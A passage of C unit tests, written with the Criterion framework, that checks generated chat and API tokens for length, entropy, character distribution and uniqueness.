	/* 6 bits a character: at least 128 bits. */
	cr_assert_geq(CHAT_TOKEN_LEN * 6, 128);
}

static int cmp_tok(const void *a, const void *b)
{
	return strcmp(a, b);
}

/*
 * 1000 tokens: all distinct, every position varies, and the characters
 * are spread evenly over the 64 of the alphabet (each expected 500 times
 * in 32000; 350..650 is more than six standard deviations).
 */
Test(barrage, tokens_statistics)
{
	static const char b64[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	static char toks[1000][CHAT_TOKEN_LEN + 1];
	unsigned count[64] = { 0 };

	for (int i = 0; i < 1000; i++) {
		cr_assert_eq(chat_token_new(toks[i]), 0);
		cr_assert(is_token(toks[i]));
		for (int k = 0; k < CHAT_TOKEN_LEN; k++)
			count[strchr(b64, toks[i][k]) - b64]++;
	}
	for (int k = 0; k < CHAT_TOKEN_LEN; k++) {
		bool seen[64] = { false };
		int distinct = 0;

		for (int i = 0; i < 1000; i++) {
			int c = (int)(strchr(b64, toks[i][k]) - b64);

			distinct += !seen[c];
			seen[c] = true;
		}
		cr_assert_geq(distinct, 48, "position %d takes only %d values",
			      k, distinct);
	}
	for (int c = 0; c < 64; c++)
		cr_assert(count[c] >= 350 && count[c] <= 650,
			  "'%c' appears %u times in 32000 characters", b64[c],
			  count[c]);
	qsort(toks, 1000, sizeof(toks[0]), cmp_tok);
	for (int i = 1; i < 1000; i++)
		cr_assert_str_neq(toks[i - 1], toks[i], "duplicate token");
}

/* The tokens the API hands out: 22..64 of [A-Za-z0-9_-], >= 128 bits. */
Test(barrage, api_tokens)
{
	char *seen[20];

	for (int i = 0; i < 20; i++) {
		seen[i] = app_create("token check");
		cr_assert(is_token(seen[i]), "%s", seen[i]);
		cr_assert_geq(strlen(seen[i]) * 6, 128, "%s", seen[i]);
		for (int j = 0; j < i; j++)
			cr_assert_str_neq(seen[i], seen[j]);
	}
	for (int i = 0; i < 20; i++)
		free(seen[i]);
}
